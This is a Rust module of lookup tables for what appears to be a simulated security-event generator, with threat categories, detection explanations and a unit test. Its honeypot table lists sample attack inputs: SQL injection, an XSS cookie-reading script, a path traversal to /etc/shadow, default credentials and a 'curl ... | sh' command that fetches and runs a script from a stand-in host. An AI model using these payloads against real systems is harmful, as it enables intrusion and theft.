//! Fixed lookup tables the fabricator draws from

/// A threat category and the detection module that reports it
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ThreatKind {
    pub threat_type: &'static str,
    pub module: &'static str,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HoneypotPayload {
    pub payload: &'static str,
    pub attempt_type: &'static str,
}

pub const THREAT_KINDS: [ThreatKind; 8] = [
    ThreatKind { threat_type: "DDoS Attack", module: "IDS" },
    ThreatKind { threat_type: "Phishing URL", module: "Phishing" },
    ThreatKind { threat_type: "Brute Force", module: "IDS" },
    ThreatKind { threat_type: "Malware Detected", module: "Malware" },
    ThreatKind { threat_type: "Zero-Day Anomaly", module: "Anomaly" },
    ThreatKind { threat_type: "Abnormal Login", module: "UBA" },
    ThreatKind { threat_type: "Honeypot Triggered", module: "Honeypot" },
    ThreatKind { threat_type: "Port Scan", module: "IDS" },
];

pub const EXPLANATIONS: [&str; 8] = [
    "Volumetric flood detected from distributed botnet. Multiple SYN packets targeting primary services.",
    "Suspicious URL with encoded redirect chain detected. Domain age under 24 hours.",
    "Multiple failed authentication attempts from single source. Pattern matches credential stuffing.",
    "Binary with obfuscated payload matched threat intelligence signatures.",
    "Traffic pattern deviates significantly from baseline. Unknown protocol behavior.",
    "Login from unrecognized device in anomalous geolocation.",
    "Attacker probed decoy endpoint. Payload captured for analysis.",
    "Sequential port scanning detected across multiple ranges from known anonymizing proxy.",
];

pub const HONEYPOT_PAYLOADS: [HoneypotPayload; 5] = [
    HoneypotPayload { payload: "' OR 1=1 --", attempt_type: "SQL Injection" },
    HoneypotPayload { payload: "<script>document.cookie</script>", attempt_type: "XSS" },
    HoneypotPayload { payload: "../../etc/shadow", attempt_type: "Path Traversal" },
    HoneypotPayload { payload: "root:toor", attempt_type: "Credential Stuffing" },
    HoneypotPayload { payload: "curl http://c2.bad/shell.sh | sh", attempt_type: "Remote Code Exec" },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_no_duplicate_entries() {
        for (i, a) in THREAT_KINDS.iter().enumerate() {
            for b in &THREAT_KINDS[i + 1..] {
                assert_ne!(a.threat_type, b.threat_type);
            }
        }
        for (i, a) in HONEYPOT_PAYLOADS.iter().enumerate() {
            for b in &HONEYPOT_PAYLOADS[i + 1..] {
                assert_ne!(a.attempt_type, b.attempt_type);
            }
        }
    }
}
